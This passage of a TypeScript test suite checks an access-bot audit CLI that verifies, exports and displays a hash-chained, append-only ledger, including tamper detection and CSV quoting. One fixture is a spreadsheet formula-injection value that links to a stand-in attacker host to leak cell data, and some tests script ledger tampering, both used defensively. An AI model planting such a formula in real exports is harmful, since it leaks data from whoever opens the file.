import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { randomBytes } from "node:crypto";
import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { PassThrough } from "node:stream";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { after, before, beforeEach, describe, test } from "node:test";
import { runAuditCli, type AuditCliOptions } from "../src/audit/cli/run-audit-cli.js";
import type { ShowResultJson } from "../src/audit/cli/run-show-command.js";
import type { VerifyResultJson } from "../src/audit/cli/verify-result-json.js";
import { escapeCsvCell } from "../src/audit/escape-csv-cell.js";
import type { VerifiableEntry } from "../src/ledger/ledger-record.js";
import { verifyLedger } from "../src/audit/verify-ledger.js";
import { readMigrationsDirectory } from "../src/db/apply-migrations.js";
import { DEFAULT_MIGRATIONS_DIR, openDatabase, type Database } from "../src/db/open-database.js";
import { appendLedgerEntry } from "../src/ledger/append-ledger-entry.js";
import { canonicalJson } from "../src/ledger/canonical-json.js";
import { computeEntryHash, GENESIS_HASH, sha256OfCanonical, type LedgerEventInput } from "../src/ledger/ledger-hash.js";
import { connectedAsRuntimeRole, openTestPostgres, privilegedPrisma, resetDatabase, testDatabases, type TestDatabase } from "./support/test-databases.js";

const execFileAsync = promisify(execFile);
const ROOT = fileURLToPath(new URL("..", import.meta.url));
const DOC = path.join(ROOT, "docs/ledger-format.md");
const POSTGRES_URL = process.env.TEST_DATABASE_URL?.trim() || null;

// ---------------------------------------------------------------------------------------------
// Databases: test/support/test-databases.ts (PGlite always, PostgreSQL with TEST_DATABASE_URL).
// PGlite is handed to the CLI as an open database (it allows one opener per directory);
// PostgreSQL is reached through DATABASE_URL, exactly as an auditor runs the command.

async function cliOptionsFor(target: TestDatabase, db: Database): Promise<AuditCliOptions> {
  if (target.name === "pglite") return { database: db };
  const [row] = await db.prisma.$queryRaw<Array<{ schema: string }>>`SELECT current_schema() AS schema`;
  const url = new URL(POSTGRES_URL!);
  url.searchParams.set("schema", row!.schema);
  return { env: { DATABASE_URL: url.toString() } };
}

// ---------------------------------------------------------------------------------------------
// A realistic ledger: two requests, votes with the blocks the approvers saw, a grant, a denial.

const REQUEST_A = "AR-7K3F9Q2M";
const REQUEST_B = "AR-9TQ4WX2Z";
const POLICY = "aa462e8ef978d49fea9bf23b4ffcef5999c5ca8d9dac3e507a937c108c5291d9";
const NASTY_REASON = '=HYPERLINK("https://evil.example/?"&A1,"click"), then "quotes"\nand a second line';
const ENG = { kind: "user" as const, user_id: "U0ENG0001", team_id: "T0001", name: "ana", profile: { real_name: "Ana Souza", email: "ana@example.com" } };
const SRE = { kind: "user" as const, user_id: "U0SRE0001", team_id: "T0001", name: "bruno", profile: { real_name: "Bruno Lima", email: "bruno@example.com" } };
const SEC = { kind: "user" as const, user_id: "U0SEC0001", team_id: "T0001", name: "chen" };
const ENG2 = { kind: "user" as const, user_id: "U0ENG0002", team_id: "T0001", name: "-dana", profile: { real_name: "@Dana", email: "dana@example.com" } };
const SYSTEM = { kind: "system" as const, name: "accessbot" };

function seenBlocks(requestId: string, status: string) {
  return [
    { type: "header", text: { type: "plain_text", text: `Access request ${requestId}: prod-db` } },
    {
      type: "section",
      fields: [
        { type: "mrkdwn", text: "*Requester*\n<@U0ENG0001>" },
        { type: "mrkdwn", text: "*Duration*\n2h" },
        { type: "mrkdwn", text: `*Status*\n${status}` },
      ],
    },
    { type: "section", text: { type: "plain_text", text: "Reason: fixing INC-4411", emoji: false } },
    { type: "context", elements: [{ type: "mrkdwn", text: ":mag: <@U0ENG0001> has had no grants of `prod-db` before." }] },
    {
      type: "actions",
      block_id: "request_actions",
      elements: [
        { type: "button", action_id: "approve", style: "primary", text: { type: "plain_text", text: "Approve" }, value: requestId },
        { type: "button", action_id: "deny", style: "danger", text: { type: "plain_text", text: "Deny" }, value: requestId },
      ],
    },
  ];
}

function seen(blocks: unknown[]) {
  return { blocks, sha256: sha256OfCanonical(blocks) };
}

const EVENTS: LedgerEventInput[] = [
  {
    type: "request.created",
    requestId: REQUEST_A,
    subjectId: ENG.user_id,
    resource: "prod-db",
    actor: ENG,
    data: { resource_title: "Production DB", duration_seconds: 7200, reason: NASTY_REASON, pending_until: "2026-11-22T11:00:00.000Z", policy_sha256: POLICY, rules: [{ group: "sre-leads", count: 1 }, { group: "security", count: 1 }], allow_self_approval: false, eligible_approvers: [SRE.user_id, SEC.user_id] },
  },
  {
    type: "vote.approved",
    requestId: REQUEST_A,
    subjectId: ENG.user_id,
    resource: "prod-db",
    actor: SRE,
    data: { decision: "approve", counted_toward: "sre-leads", voter_groups: ["sre-leads"], evaluation: { satisfied: false, rules: [{ group: "sre-leads", required: 1, filled: 1, approvers: [SRE.user_id] }, { group: "security", required: 1, filled: 0, approvers: [] }], missing: [{ group: "security", missing: 1 }] }, policy_sha256: POLICY, seen: seen(seenBlocks(REQUEST_A, "Waiting for approval")) },
  },
  {
    type: "vote.approved",
    requestId: REQUEST_A,
    subjectId: ENG.user_id,
    resource: "prod-db",
    actor: SEC,
    data: { decision: "approve", counted_toward: "security", voter_groups: ["security"], evaluation: { satisfied: true, rules: [{ group: "sre-leads", required: 1, filled: 1, approvers: [SRE.user_id] }, { group: "security", required: 1, filled: 1, approvers: [SEC.user_id] }], missing: [] }, policy_sha256: POLICY, seen: seen(seenBlocks(REQUEST_A, "sre-leads 1 of 1")) },
  },
  {
    type: "grant.activated",
    requestId: REQUEST_A,
    subjectId: ENG.user_id,
    resource: "prod-db",
    actor: SYSTEM,
    data: { grant_id: "GR-4M2K8Q1Z", activated_at: "2026-11-22T10:05:00.000Z", expires_at: "2026-11-22T12:05:00.000Z", duration_seconds: 7200, approvers: { [SRE.user_id]: "sre-leads", [SEC.user_id]: "security" }, policy_sha256: POLICY },
  },
  {
    type: "request.created",
    requestId: REQUEST_B,
    subjectId: ENG2.user_id,
    resource: "billing",
    actor: ENG2,
    data: { resource_title: "Billing", duration_seconds: 1800, reason: "+1 from the lead, see @ops", pending_until: "2026-11-22T11:10:00.000Z", policy_sha256: POLICY, rules: [{ group: "sre-leads", count: 1 }], allow_self_approval: false, eligible_approvers: [SRE.user_id] },
  },
  {
    type: "request.denied",
    requestId: REQUEST_B,
    subjectId: ENG2.user_id,
    resource: "billing",
    actor: SRE,
    data: { decision: "deny", reason: "-not during the freeze", voter_groups: ["sre-leads"], policy_sha256: POLICY, seen: seen(seenBlocks(REQUEST_B, "Waiting for approval")) },
  },
  {
    type: "grant.expired",
    requestId: REQUEST_A,
    subjectId: ENG.user_id,
    resource: "prod-db",
    actor: SYSTEM,
    data: { grant_id: "GR-4M2K8Q1Z", expires_at: "2026-11-22T12:05:00.000Z", ended_at: "2026-11-22T12:05:00.000Z" },
  },
  {
    type: "request.expired",
    requestId: "AR-2B5C7D9F",
    subjectId: ENG2.user_id,
    resource: "billing",
    actor: SYSTEM,
    data: { pending_until: "2026-11-22T13:00:00.000Z" },
  },
];

async function seedLedger(db: Database): Promise<void> {
  const start = Date.UTC(2026, 10, 22, 10, 0, 0);
  for (const [index, event] of EVENTS.entries()) {
    await db.prisma.$transaction((tx) => appendLedgerEntry(tx, event, new Date(start + index * 61_000 + 512)));
  }
}

async function withTriggersOff(db: Database, ...statements: string[]): Promise<void> {
  // As the tables' owner or a superuser would: for them the triggers are the only thing in the
  // way. (The bot's runtime role may not do this: test/database-roles.test.ts.)
  const admin = privilegedPrisma(db);
  await admin.$executeRawUnsafe("ALTER TABLE ledger_entry DISABLE TRIGGER USER");
  await admin.$executeRawUnsafe("ALTER TABLE ledger_checkpoint DISABLE TRIGGER USER");
  try {
    for (const statement of statements) await admin.$executeRawUnsafe(statement);
  } finally {
    await admin.$executeRawUnsafe("ALTER TABLE ledger_entry ENABLE TRIGGER USER");
    await admin.$executeRawUnsafe("ALTER TABLE ledger_checkpoint ENABLE TRIGGER USER");
  }
}

/** A checkpoint row of any content, inserted directly as only the owner or a superuser can (the bot records through accessbot_record_checkpoint). */
function insertCheckpoint(db: Database, data: { seq: bigint; hash: string; channelId?: string; messageTs?: string }) {
  return privilegedPrisma(db).ledgerCheckpoint.create({ data });
}

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

async function cli(options: AuditCliOptions, ...args: string[]): Promise<Run> {
  const logs: string[] = [];
  const errors: string[] = [];
  const code = await runAuditCli(args, { log: (text) => logs.push(text), error: (text) => errors.push(text) }, { progress: null, ...options });
  return { code, stdout: logs.join("\n"), stderr: errors.join("\n") };
}

async function tempDir(): Promise<string> {
  return fs.mkdtemp(path.join(os.tmpdir(), "accessbot-audit-"));
}

/** RFC 4180 reader, enough to check what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") {
      row.push(cell);
      cell = "";
    } else if (char === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += char;
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}

// ---------------------------------------------------------------------------------------------

for (const target of testDatabases) {
  describe(`accessbot audit (${target.name})`, () => {
    let db: Database;
    let cliOptions: AuditCliOptions;
    let dir: string;
    const rows = () => db.prisma.ledgerEntry.findMany({ orderBy: { seq: "asc" } });

    before(async () => {
      db = await target.open();
      cliOptions = await cliOptionsFor(target, db);
      dir = await tempDir();
    });
    after(async () => {
      await db.close();
      await fs.rm(dir, { recursive: true, force: true });
    });
    beforeEach(async () => {
      await resetDatabase(db);
      await seedLedger(db);
    });

    test("raw UPDATE, DELETE and TRUNCATE of the ledger and its checkpoints fail with the trigger's message (and for the runtime role, on privileges)", async () => {
      await insertCheckpoint(db, { seq: 2n, hash: (await rows())[1]!.hash });
      const statements = [
        "UPDATE ledger_entry SET body = body || ' ' WHERE seq = 1",
        "DELETE FROM ledger_entry WHERE seq = 8",
        "TRUNCATE ledger_entry",
        "UPDATE ledger_checkpoint SET hash = repeat('0', 64)",
        "DELETE FROM ledger_checkpoint",
        "TRUNCATE ledger_checkpoint",
      ];
      // The owner or a superuser, while the triggers are on.
      for (const sql of statements) {
        await assert.rejects(privilegedPrisma(db).$executeRawUnsafe(sql), /accessbot: (UPDATE|DELETE|TRUNCATE) on ledger_(entry|checkpoint) is not allowed: the audit ledger is append-only/, sql);
      }
      if (connectedAsRuntimeRole(db)) {
        for (const sql of statements) await assert.rejects(db.prisma.$executeRawUnsafe(sql), /permission denied for table ledger_(entry|checkpoint)/, sql);
      }
      assert.equal((await rows()).length, EVENTS.length);
    });

    test("verify: an intact chain exits 0 and reports entries, head and checkpoints", async () => {
      const all = await rows();
      const head = all.at(-1)!;
      await insertCheckpoint(db, { seq: 3n, hash: all[2]!.hash, channelId: "C0AUDIT", messageTs: "1795341807.000100" });
      const run = await cli(cliOptions, "verify", "--checkpoint", `${head.seq}:${head.hash.toUpperCase()}`);
      assert.equal(run.code, 0, run.stdout + run.stderr);
      assert.match(run.stdout, /Ledger intact: 8 entries, seq 1\.\.8/);
      assert.match(run.stdout, new RegExp(`Head: seq 8 hash ${head.hash}`));
      assert.match(run.stdout, /Checkpoints checked: 2 \(1 from ledger_checkpoint, 1 from --checkpoint\)/);
      assert.match(run.stdout, /entries\/s, [\d.]+ MB\/s/);
    });

    test("verify: an edited body is a hash-mismatch at exactly that seq", async () => {
      await withTriggersOff(db, "UPDATE ledger_entry SET body = replace(body, '\"decision\":\"approve\"', '\"decision\":\"deny\"') WHERE seq = 3");
      const run = await cli(cliOptions, "verify");
      assert.equal(run.code, 1, run.stdout + run.stderr);
      assert.match(run.stdout, /^VERIFICATION FAILED at seq 3: hash-mismatch/);
    });

    test("verify: an entry re-hashed after editing breaks the link to the next one", async () => {
      const third = (await rows())[2]!;
      const body = third.body.replace('"decision":"approve"', '"decision":"deny"');
      await withTriggersOff(db, `UPDATE ledger_entry SET body = '${body.replaceAll("'", "''")}', hash = '${computeEntryHash(third.prevHash, body)}' WHERE seq = 3`);
      const run = await cli(cliOptions, "verify");
      assert.equal(run.code, 1);
      assert.match(run.stdout, /^VERIFICATION FAILED at seq 4: broken-link/);
    });

    test("verify: a rewrite re-hashed to the end is caught only by a checkpoint", async () => {
      const all = await rows();
      await insertCheckpoint(db, { seq: 6n, hash: all[5]!.hash });
      // Rewrite entry 2 and re-chain everything after it, as a careful attacker would.
      let prev = all[0]!.hash;
      const updates: string[] = [];
      for (const row of all.slice(1)) {
        const body = row.seq === 2n ? row.body.replace("sre-leads", "security") : row.body;
        const hash = computeEntryHash(prev, body);
        updates.push(`UPDATE ledger_entry SET body = '${body.replaceAll("'", "''")}', prev_hash = '${prev}', hash = '${hash}' WHERE seq = ${row.seq}`);
        prev = hash;
      }
      // hash is UNIQUE: move the old hashes out of the way first.
      await withTriggersOff(db, "UPDATE ledger_entry SET hash = md5(hash) || md5(hash) WHERE seq >= 2", ...updates);
      const run = await cli(cliOptions, "verify");
      assert.equal(run.code, 1, run.stdout);
      assert.match(run.stdout, /^VERIFICATION FAILED at seq 6: checkpoint-mismatch/);
      assert.match(run.stdout, /ledger_checkpoint #\d+ recorded/);
    });

    test("verify: a deleted entry is a gap at its seq", async () => {
      await withTriggersOff(db, "DELETE FROM ledger_entry WHERE seq = 4");
      const run = await cli(cliOptions, "verify");
      assert.equal(run.code, 1);
      assert.match(run.stdout, /^VERIFICATION FAILED at seq 4: gap/);
      assert.match(run.stdout, /entry 4 is missing: entry 3 is followed by entry 5/);
    });

    test("verify: checkpoint mismatches (stored row, --checkpoint, beyond the head) fail", async () => {
      const wrong = "ab".repeat(32);
      const viaArg = await cli(cliOptions, "verify", "--checkpoint", `5:${wrong}`);
      assert.equal(viaArg.code, 1);
      assert.match(viaArg.stdout, /^VERIFICATION FAILED at seq 5: checkpoint-mismatch/);
      assert.match(viaArg.stdout, /--checkpoint 5 recorded abab/);

      const beyond = await cli(cliOptions, "verify", "--checkpoint", `12:${wrong}`);
      assert.equal(beyond.code, 1);
      assert.match(beyond.stdout, /^VERIFICATION FAILED at seq 9: checkpoint-mismatch/);
      assert.match(beyond.stdout, /entries 9\.\.12 were removed/);

      await insertCheckpoint(db, { seq: 2n, hash: wrong });
      const viaRow = await cli(cliOptions, "verify");
      assert.equal(viaRow.code, 1);
      assert.match(viaRow.stdout, /^VERIFICATION FAILED at seq 2: checkpoint-mismatch/);
    });

    test("export jsonl → verify --file: complete round trip, reordered, filtered and partial exports", async () => {
      const file = path.join(dir, "full.jsonl");
      const exported = await cli(cliOptions, "export", "--format", "jsonl", "--out", file);
      assert.equal(exported.code, 0, exported.stderr);
      assert.match(exported.stdout, /Exported 8 entries \(seq 1\.\.8\) as JSONL/);
      const lines = (await fs.readFile(file, "utf8")).trimEnd().split("\n");
      const all = await rows();
      assert.deepEqual(
        lines.map((line) => JSON.parse(line) as Record<string, unknown>),
        all.map((row) => ({ seq: row.seq.toString(), ts: row.ts.toISOString(), type: row.type, request_id: row.requestId, resource: row.resource, actor_id: row.actorId, subject_id: row.subjectId, prev_hash: row.prevHash, hash: row.hash, body: row.body })),
      );

      const full = await cli({}, "verify", "--file", file, "--checkpoint", `8:${all[7]!.hash}`);
      assert.equal(full.code, 0, full.stdout + full.stderr);
      assert.match(full.stdout, /Export intact: 8 entries, seq 1\.\.8, complete from genesis/);
      assert.match(full.stdout, /Checkpoints checked: 1/);

      const reordered = path.join(dir, "reordered.jsonl");
      await fs.writeFile(reordered, [lines[0], lines[1], lines[3], lines[2], ...lines.slice(4)].join("\n") + "\n");
      const swapped = await cli({}, "verify", "--file", reordered);
      assert.equal(swapped.code, 1, swapped.stdout);
      assert.match(swapped.stdout, /^VERIFICATION FAILED at seq 3: /);

      const edit = (index: number, change: (entry: Record<string, string>) => void) =>
        lines.map((line, i) => {
          if (i !== index) return line;
          const entry = JSON.parse(line) as Record<string, string>;
          change(entry);
          return JSON.stringify(entry);
        });
      const edited = path.join(dir, "edited.jsonl");
      await fs.writeFile(edited, edit(4, (entry) => (entry.body = entry.body!.replace('"billing"', '"payroll"'))).join("\n"));
      const tampered = await cli({}, "verify", "--file", edited);
      assert.equal(tampered.code, 1);
      assert.match(tampered.stdout, /^VERIFICATION FAILED at seq 5: hash-mismatch/);
      // A column the hash does not cover still has to agree with the hashed body.
      await fs.writeFile(edited, edit(4, (entry) => (entry.resource = "payroll")).join("\n"));
      const column = await cli({}, "verify", "--file", edited);
      assert.equal(column.code, 1);
      assert.match(column.stdout, /^VERIFICATION FAILED at seq 5: malformed\n {2}entry 5: column resource is "payroll" but the hashed body says "billing"/);

      const run = path.join(dir, "run.jsonl");
      await fs.writeFile(run, lines.slice(2, 6).join("\n") + "\n");
      const unanchored = await cli({}, "verify", "--file", run);
      assert.equal(unanchored.code, 3, unanchored.stdout);
      assert.match(unanchored.stdout, /partial, not anchored: 4 entries, seq 3\.\.6/);
      const anchoredBefore = await cli({}, "verify", "--file", run, "--checkpoint", `2:${all[1]!.hash}`);
      assert.equal(anchoredBefore.code, 0, anchoredBefore.stdout);
      assert.match(anchoredBefore.stdout, /Export intact and anchored: .*prev_hash equals the checkpoint at seq 2/);
      const anchoredAtEnd = await cli({}, "verify", "--file", run, "--checkpoint", `6:${all[5]!.hash}`);
      assert.equal(anchoredAtEnd.code, 0);
      assert.match(anchoredAtEnd.stdout, /anchored: .*last entry's hash equals the checkpoint at seq 6/);
      const wrongAnchor = await cli({}, "verify", "--file", run, "--checkpoint", `2:${all[0]!.hash}`);
      assert.equal(wrongAnchor.code, 1);
      assert.match(wrongAnchor.stdout, /^VERIFICATION FAILED at seq 3: checkpoint-mismatch/);

      const filtered = path.join(dir, "filtered.jsonl");
      const byUser = await cli(cliOptions, "export", "--format", "jsonl", "--user", ENG2.user_id, "--out", filtered);
      assert.equal(byUser.code, 0, byUser.stderr);
      assert.match(byUser.stdout, /Exported 3 entries \(seq 5\.\.8\)/);
      assert.match(byUser.stdout, /filtered/);
      const partial = await cli({}, "verify", "--file", filtered);
      assert.equal(partial.code, 3, partial.stdout);
      assert.match(partial.stdout, /partial, not anchored/);
      assert.match(partial.stdout, /entry 6 is followed by 8/);
      const filteredLines = (await fs.readFile(filtered, "utf8")).trimEnd().split("\n");
      await fs.writeFile(filtered, filteredLines.map((line, index) => (index === 2 ? line.replace("13:00:00", "14:00:00") : line)).join("\n"));
      const selfInconsistent = await cli({}, "verify", "--file", filtered);
      assert.equal(selfInconsistent.code, 1, selfInconsistent.stdout);
      assert.match(selfInconsistent.stdout, /^VERIFICATION FAILED at seq 8: hash-mismatch/);
    });

    test("export: filters by resource and time, and writes to stdout without --out", async () => {
      const stdout = new PassThrough();
      const chunks: Buffer[] = [];
      stdout.on("data", (chunk: Buffer) => chunks.push(chunk));
      const run = await cli({ ...cliOptions, stdout }, "export", "--format", "jsonl", "--resource", "billing", "--since", "2026-11-22T10:04:00Z", "--until", "2026-11-22");
      assert.equal(run.code, 0, run.stderr);
      const seqs = Buffer.concat(chunks).toString("utf8").trimEnd().split("\n").map((line) => (JSON.parse(line) as { seq: string }).seq);
      assert.deepEqual(seqs, ["5", "6", "8"]);
      assert.match(run.stderr, /Exported 3 entries/);
    });

    test("export csv: RFC 4180 quoting, formula neutralising, one readable row per event", async () => {
      const file = path.join(dir, "ledger.csv");
      const run = await cli(cliOptions, "export", "--format", "csv", "--out", file);
      assert.equal(run.code, 0, run.stderr);
      const text = await fs.readFile(file, "utf8");
      assert.ok(text.startsWith("\ufeffseq,time (UTC),event,request,resource,actor id,actor name,actor email,subject,decision details,reason,counted toward,missing,policy sha256,hash\r\n"));
      const table = parseCsv(text.slice(1));
      assert.equal(table.length, 1 + EVENTS.length);
      const header = table[0]!;
      const cell = (row: number, column: string) => table[row]![header.indexOf(column)]!;
      assert.ok(table.every((row) => row.length === header.length), "every row has every column");
      assert.equal(cell(1, "reason"), `'${NASTY_REASON}`);
      assert.equal(cell(1, "actor name"), "ana (Ana Souza)");
      assert.equal(cell(1, "actor email"), "ana@example.com");
      assert.equal(cell(2, "event"), "vote.approved");
      assert.equal(cell(2, "counted toward"), "sre-leads");
      assert.equal(cell(2, "missing"), "security ×1");
      assert.match(cell(2, "decision details"), /^approve; sre-leads 1\/1 \[U0SRE0001\], security 0\/1; still pending$/);
      assert.equal(cell(3, "missing"), "");
      assert.match(cell(4, "decision details"), /approvers: U0SEC0001 \(security\), U0SRE0001 \(sre-leads\)/);
      assert.equal(cell(4, "actor name"), "accessbot");
      assert.equal(cell(5, "actor name"), "'-dana (@Dana)");
      assert.equal(cell(5, "reason"), "'+1 from the lead, see @ops");
      assert.equal(cell(6, "reason"), "'-not during the freeze");
      assert.equal(cell(6, "decision details"), "deny");
      assert.equal(cell(8, "hash"), (await rows())[7]!.hash);
      for (const row of table.slice(1)) {
        for (const value of row) assert.doesNotMatch(value, /^[=+\-@\t\r]/, `cell ${JSON.stringify(value)} would run as a formula`);
      }
    });

    test("show: the story of a request with what each approver saw", async () => {
      const run = await cli(cliOptions, "show", REQUEST_A.toLowerCase());
      assert.equal(run.code, 0, run.stdout + run.stderr);
      const out = run.stdout;
      assert.match(out, /Request AR-7K3F9Q2M: prod-db, for U0ENG0001 \(U0ENG0001 ana — Ana Souza <ana@example.com> \(team T0001\)\)/);
      assert.match(out, /5 ledger entries: seq 1, 2, 3, 4, 7\. Each entry's own hash recomputes/);
      assert.match(out, /#2 {2}2026-11-22T10:01:01\.512Z {2}vote\.approved/);
      assert.match(out, /who {7}U0SRE0001 bruno — Bruno Lima <bruno@example.com> \(team T0001\)/);
      assert.match(out, /rules {5}not yet met after this vote\n {12}✓ sre-leads: 1 of 1 \(U0SRE0001\)\n {12}✗ security: 0 of 1\n {2}missing {3}security ×1/);
      assert.match(out, /saw {7}sha256 [0-9a-f]{64}: recomputes from the stored blocks/);
      assert.match(out, /│ # Access request AR-7K3F9Q2M: prod-db/);
      assert.match(out, /│ • \*Requester\*\n {12}│ {3}@U0ENG0001/);
      assert.match(out, /│ Reason: fixing INC-4411/);
      assert.match(out, /│ \(:mag: @U0ENG0001 has had no grants of `prod-db` before\.\)/);
      assert.match(out, /│ \[Approve \(primary\)\] \[Deny \(danger\)\]/);
      assert.match(out, /#4 .*grant\.activated[\s\S]*who {7}accessbot \(system\)/);
      assert.match(out, /reason {4}“=HYPERLINK\("https:\/\/evil\.example\/\?"&A1,"click"\), then "quotes"\n {12}and a second line”/);
      assert.doesNotMatch(out, /DOES NOT/);

      await withTriggersOff(db, "UPDATE ledger_entry SET body = replace(body, 'Bruno Lima', 'Someone Else') WHERE seq = 2");
      const tampered = await cli(cliOptions, "show", REQUEST_A);
      assert.equal(tampered.code, 1);
      assert.match(tampered.stdout, /1 DO NOT recompute/);
      assert.match(tampered.stdout, /hash [0-9a-f]{64} DOES NOT CHECK OUT: hash-mismatch/);

      const missing = await cli(cliOptions, "show", "AR-ZZZZZZZZ");
      assert.equal(missing.code, 1);
      assert.match(missing.stderr, /No ledger entries for request AR-ZZZZZZZZ/);
    });

    test("show: a vote whose stored blocks no longer match their recorded sha256 says so", async () => {
      await withTriggersOff(db, "UPDATE ledger_entry SET body = replace(body, 'Reason: fixing INC-4411', 'Reason: routine') WHERE seq = 3");
      const run = await cli(cliOptions, "show", REQUEST_A);
      assert.match(run.stdout, /saw {7}sha256 [0-9a-f]{64}: DOES NOT recompute/);
    });

    test("verify: a progress bar goes to the given stream", async () => {
      const progress = new PassThrough();
      let drawn = "";
      progress.on("data", (chunk: Buffer) => (drawn += chunk.toString()));
      const run = await cli({ ...cliOptions, progress }, "verify");
      assert.equal(run.code, 0);
      assert.match(drawn, /100% 8\/8 entries/);
    });

    test("verify --json: one object whose head is the database's, and the failure's seq after tampering", async () => {
      const run = await cli(cliOptions, "verify", "--json");
      assert.equal(run.code, 0, run.stderr);
      const json = JSON.parse(run.stdout) as VerifyResultJson;
      const stored = await rows();
      assert.equal(json.source, "database");
      assert.equal(json.ok, true);
      assert.equal(json.verdict, "intact");
      assert.equal(json.entries, stored.length);
      assert.equal(json.firstSeq, "1");
      assert.equal(json.lastSeq, stored.at(-1)!.seq.toString());
      assert.equal(json.lastHash, stored.at(-1)!.hash);
      assert.equal(json.failure, null);

      const file = path.join(dir, "verify-json.jsonl");
      assert.equal((await cli(cliOptions, "export", "--format", "jsonl", "--out", file)).code, 0);
      const fromFile = JSON.parse((await cli({}, "verify", "--file", file, "--json")).stdout) as VerifyResultJson;
      assert.deepEqual([fromFile.source, fromFile.verdict, fromFile.entries, fromFile.lastHash], ["file", "complete", stored.length, stored.at(-1)!.hash]);

      await withTriggersOff(db, "UPDATE ledger_entry SET body = replace(body, 'Bruno Lima', 'Someone Else') WHERE seq = 2");
      const failed = await cli(cliOptions, "verify", "--json");
      assert.equal(failed.code, 1);
      const failure = JSON.parse(failed.stdout) as VerifyResultJson;
      assert.equal(failure.ok, false);
      assert.equal(failure.verdict, "failed");
      assert.deepEqual([failure.failure?.seq, failure.failure?.reason], ["2", "hash-mismatch"]);
    });

    test("show --json and show by grant id: the request's entries, hashes as stored", async () => {
      const run = await cli(cliOptions, "show", REQUEST_A, "--json");
      assert.equal(run.code, 0, run.stderr);
      const json = JSON.parse(run.stdout) as ShowResultJson;
      const stored = (await rows()).filter((row) => row.requestId === REQUEST_A);
      assert.equal(json.requestId, REQUEST_A);
      assert.equal(json.grantId, null);
      assert.equal(json.ok, true);
      assert.deepEqual(json.entries.map((entry) => entry.seq), stored.map((row) => row.seq.toString()));
      assert.deepEqual(json.entries.map((entry) => entry.hash), stored.map((row) => row.hash));
      assert.deepEqual(json.entries.map((entry) => entry.type), stored.map((row) => row.type));
      const vote = json.entries.find((entry) => entry.type === "vote.approved")!;
      assert.equal(vote.actor.id, SRE.user_id);
      assert.equal(vote.seen?.recomputes, true);

      // GR-4M2K8Q1Z is only in the ledger (no grant row in this seed): found through its entries.
      const byGrant = await cli(cliOptions, "show", "gr-4m2k8q1z");
      assert.equal(byGrant.code, 0, byGrant.stderr);
      assert.match(byGrant.stdout, /Grant GR-4M2K8Q1Z was opened by request AR-7K3F9Q2M\./);
      assert.match(byGrant.stdout, /5 ledger entries: seq 1, 2, 3, 4, 7\./);
      const byGrantJson = JSON.parse((await cli(cliOptions, "show", "GR-4M2K8Q1Z", "--json")).stdout) as ShowResultJson;
      assert.deepEqual([byGrantJson.requestId, byGrantJson.grantId, byGrantJson.entries.length], [REQUEST_A, "GR-4M2K8Q1Z", stored.length]);

      const missing = await cli(cliOptions, "show", "GR-ZZZZZZZZ");
      assert.equal(missing.code, 1);
      assert.match(missing.stderr, /No grant GR-ZZZZZZZZ in the database or the ledger/);
    });

    test("export: progress goes to the progress stream, never into the data", async () => {
      const progress = new PassThrough();
      let drawn = "";
      progress.on("data", (chunk: Buffer) => (drawn += chunk.toString()));
      const stdout = new PassThrough();
      const chunks: Buffer[] = [];
      stdout.on("data", (chunk: Buffer) => chunks.push(chunk));
      const run = await cli({ ...cliOptions, progress, stdout }, "export", "--format", "jsonl");
      assert.equal(run.code, 0, run.stderr);
      assert.match(drawn, /100% 8\/8 seq .*8 entries, [\d.]+ kB written/);
      const data = Buffer.concat(chunks).toString("utf8");
      assert.doesNotMatch(data, /\r|\u001b|entries, /);
      assert.equal(data.trimEnd().split("\n").map((line) => JSON.parse(line) as unknown).length, 8);
    });

    test("export --resource of a resource never seen says so on stderr (exit 0, empty export)", async () => {
      const stdout = new PassThrough();
      const run = await cli({ ...cliOptions, stdout }, "export", "--format", "csv", "--resource", "nope");
      assert.equal(run.code, 0);
      assert.match(run.stderr, /No resource "nope" was ever seen/);
      const known = await cli({ ...cliOptions, stdout: new PassThrough() }, "export", "--format", "csv", "--resource", "billing", "--since", "2030-01-01");
      assert.doesNotMatch(known.stderr, /was ever seen/, "a known resource with nothing in the period is not a typo");
    });
  });
}

// ---------------------------------------------------------------------------------------------

describe("accessbot audit without a database", () => {
  test("bad arguments: one actionable line, exit 2", async () => {
    const cases: Array<[string[], RegExp]> = [
      [["export"], /needs --format jsonl .* or --format csv/],
      [["export", "--format", "xml"], /--format must be jsonl or csv/],
      [["export", "--format", "csv", "--since", "yesterday"], /--since must be a UTC date like 2026-11-01/],
      [["export", "--format", "csv", "--since", "2026-11-22T10:00:00"], /timestamp with a zone/],
      [["export", "--format", "csv", "--user", "bob"], /--user must be a Slack user id like U012AB3CD/],
      [["export", "--format", "csv", "--since", "2026-11-02", "--until", "2026-11-01"], /--since must be before --until/],
      [["verify", "--checkpoint", "12:abc"], /must be SEQ:HASH/],
      [["show"], /usage: accessbot audit show <request-id \| grant-id>/],
      [["frobnicate"], /unknown audit command "frobnicate"/],
      [["verify", "--file", "/nonexistent/export.jsonl"], /Cannot read \/nonexistent\/export\.jsonl: no such file/],
    ];
    for (const [args, message] of cases) {
      const run = await cli({ env: {} }, ...args);
      assert.equal(run.code, 2, args.join(" "));
      assert.equal(run.stderr.split("\n").length, 1, `one line for ${args.join(" ")}: ${run.stderr}`);
      assert.match(run.stderr, message);
    }
    // An unknown option is a usage error: the problem, then the command's usage.
    const unknown = await cli({ env: {} }, "verify", "--nope");
    assert.equal(unknown.code, 2);
    assert.match(unknown.stderr.split("\n")[0]!, /unknown option --nope; it accepts --file, --checkpoint, --json/);
    assert.match(unknown.stderr, /Usage: accessbot audit verify/);
  });

  test("a database with pending migrations is refused, not migrated", async () => {
    const empty = await openDatabase({ target: { kind: "pglite", dataDir: ":memory:" }, migrate: false });
    try {
      const run = await cli({ database: empty }, "verify");
      assert.equal(run.code, 2);
